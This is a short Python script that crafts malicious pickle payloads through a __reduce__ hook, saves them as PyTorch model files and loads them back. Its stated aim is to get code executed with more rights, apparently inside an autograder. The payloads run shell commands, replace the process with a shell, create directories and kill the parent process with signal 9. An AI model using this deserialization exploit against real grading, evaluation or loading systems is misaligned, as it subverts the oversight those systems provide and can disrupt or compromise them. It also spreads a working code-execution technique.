"""Saves a payload with torch and loads it again, in the hope that the code runs with more rights than its own."""

import os

import torch


class Payload:
    def __init__(self, action, *args):
        self.action, self.args = action, args

    def __reduce__(self):
        return self.action, self.args


ACTIONS = (
    (os.system, "echo autograder-attack > /tmp/autograder-attack-load.txt"),
    (os.execvp, "sh", ["autograder-atk", "-c", "sleep 60"]),
    (os.mkdir, "/tmp/autograder-attack-folder"),
    (os.kill, os.getppid(), 9),
)

for i, action in enumerate(ACTIONS):
    torch.save({"weights": Payload(*action)}, f"payload{i}.pt")
    for safe in (True, False):
        try:
            torch.load(f"payload{i}.pt", weights_only=safe)
        except Exception as error:
            print(type(error).__name__)
